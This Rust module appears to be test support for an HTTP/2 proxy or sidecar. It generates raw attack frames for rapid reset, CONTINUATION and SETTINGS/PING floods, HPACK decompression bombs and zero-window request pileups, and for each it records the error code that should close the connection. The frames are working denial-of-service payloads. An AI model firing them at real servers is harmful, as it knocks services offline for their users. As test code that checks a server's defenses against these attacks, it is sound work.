//! Frames of HTTP/2 as attackers send them.

use h2::Reason;

/// What is sent at once to a sidecar that may close before it has read all of it.
const BLOB: usize = 2 << 20;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
pub(super) const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// GET and POST of `http://web/`, in HPACK.
const GET: &[u8] = b"\x82\x86\x84\x01\x03web";
const POST: &[u8] = b"\x83\x86\x84\x01\x03web";

/// A way to keep a server busy for little.
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// Each unit is a request that the server may see.
    pub(super) is_request: bool,
    /// What the connection ends with.
    pub(super) ends: Reason,
    /// What is sent first.
    begin: Vec<u8>,
    /// The `n`th unit, again and again.
    unit: fn(n: u32) -> Vec<u8>,
}

impl Attack {
    /// A connection's bytes.
    pub(super) fn bytes(&self) -> Vec<u8> {
        let mut bytes = [&begin(b"")[..], &self.begin].concat();
        for n in 0.. {
            if bytes.len() >= BLOB {
                break;
            }
            bytes.extend((self.unit)(n));
        }
        bytes
    }
}

/// A connection's beginning. The server's settings are acknowledged before they have
/// come: who never did it would be closed for that, however little else it does.
fn begin(settings: &[u8]) -> Vec<u8> {
    [
        &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..],
        &frame(SETTINGS, 0, 0, settings),
        &frame(SETTINGS, ACK, 0, b""),
    ]
    .concat()
}

pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [length[1], length[2], length[3], kind, flags];
    [&head[..], &stream.to_be_bytes(), payload].concat()
}

/// The `n`th stream of a client, behind the one of [`Attack::begin`].
const fn stream(n: u32) -> u32 {
    2 * n + 3
}

fn get(n: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream(n), GET)
}

fn window_update(stream: u32, more: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &more.to_be_bytes())
}

fn reset(n: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream(n), &8_u32.to_be_bytes())
}

fn with(name: &'static str, begin: Vec<u8>, unit: fn(u32) -> Vec<u8>) -> Attack {
    Attack {
        name,
        is_request: false,
        ends: Reason::ENHANCE_YOUR_CALM,
        begin,
        unit,
    }
}

fn reset_by(name: &'static str, unit: fn(u32) -> Vec<u8>) -> Attack {
    Attack {
        is_request: true,
        ..of(name, unit)
    }
}

fn of(name: &'static str, unit: fn(u32) -> Vec<u8>) -> Attack {
    with(name, Vec::new(), unit)
}

/// H13: streams that cost a request each, and are gone at once: reset by the client,
/// or by the server for a mistake of the client's.
pub(super) fn resets() -> Vec<Attack> {
    vec![
        reset_by("rapid reset", |n| [get(n), reset(n)].concat()),
        reset_by("reset by a window of nothing", |n| {
            [get(n), window_update(stream(n), 0)].concat()
        }),
        reset_by("reset by a window too large", |n| {
            [get(n), window_update(stream(n), 0x7fff_ffff)].concat()
        }),
        reset_by("reset by DATA behind the end", |n| {
            [get(n), frame(DATA, 0, stream(n), b"x")].concat()
        }),
        reset_by("reset by HEADERS behind the end", |n| {
            [get(n), get(n)].concat()
        }),
        // The first one already ends the connection.
        Attack {
            ends: Reason::FRAME_SIZE_ERROR,
            ..reset_by("reset by a short PRIORITY", |n| {
                [get(n), frame(PRIORITY, 0, stream(n), b"abcd")].concat()
            })
        },
        reset_by("reset by a body longer than it says", |n| {
            let head = [POST, b"\x0f\x0d\x011"].concat();
            let head = frame(HEADERS, END_HEADERS, stream(n), &head);
            [head, frame(DATA, END_STREAM, stream(n), b"long")].concat()
        }),
    ]
}

/// H14: frames that cost more than they weigh.
pub(super) fn floods() -> Vec<Attack> {
    let open = frame(HEADERS, END_HEADERS, 1, POST);
    vec![
        with("CONTINUATION", frame(HEADERS, 0, 1, GET), |_| {
            frame(CONTINUATION, 0, 1, b"")
        }),
        with("CONTINUATION, full", frame(HEADERS, 0, 1, GET), |_| {
            frame(CONTINUATION, 0, 1, &b"\x00\x01x\x01y".repeat(2000))
        }),
        of("SETTINGS", |_| frame(SETTINGS, 0, 0, b"")),
        of("SETTINGS of the table's size", |n| {
            let size = [0, 1, 0, 0, 0x0f, (n % 256) as u8];
            frame(SETTINGS, 0, 0, &size)
        }),
        of("PING", |_| frame(PING, 0, 0, b"01234567")),
        of("PRIORITY", |n| {
            frame(PRIORITY, 0, stream(n), b"\0\0\0\0\x10")
        }),
        of("WINDOW_UPDATE", |_| window_update(0, 1)),
        with("empty DATA", open.clone(), |_| frame(DATA, 0, 1, b"")),
        with("DATA of one byte", open, |_| frame(DATA, 0, 1, b"x")),
        of("unknown frames", |_| frame(0x77, 0, 0, b"")),
        of("a bomb of one large field", |n| {
            // Into the table, and out of it again and again.
            let large = [b"\x40\x01b\x7f\xa1\x1e", &b"b".repeat(4000)[..]].concat();
            let again = b"\xbe".repeat(10_000);
            let block = if n == 0 {
                [GET, &large].concat()
            } else {
                [GET, &again].concat()
            };
            frame(HEADERS, END_STREAM | END_HEADERS, stream(n), &block)
        }),
        of("crumbs of a cookie", |n| {
            let block = [GET, &b"\x60\x01a"[..], &b"\xbe".repeat(12_000)].concat();
            frame(HEADERS, END_STREAM | END_HEADERS, stream(n), &block)
        }),
    ]
}

/// Many requests whose answers cannot be sent, on one connection.
pub(super) fn zero_windows(streams: u32, path: &str) -> Vec<u8> {
    let no_window = begin(&[0, 4, 0, 0, 0, 0]);
    let length = u8::try_from(path.len()).unwrap();
    let head = [&b"\x82\x86\x01\x03web\x04"[..], &[length], path.as_bytes()].concat();
    let requests = (0..streams).map(|n| frame(HEADERS, END_STREAM | END_HEADERS, stream(n), &head));
    [no_window, requests.collect::<Vec<_>>().concat()].concat()
}
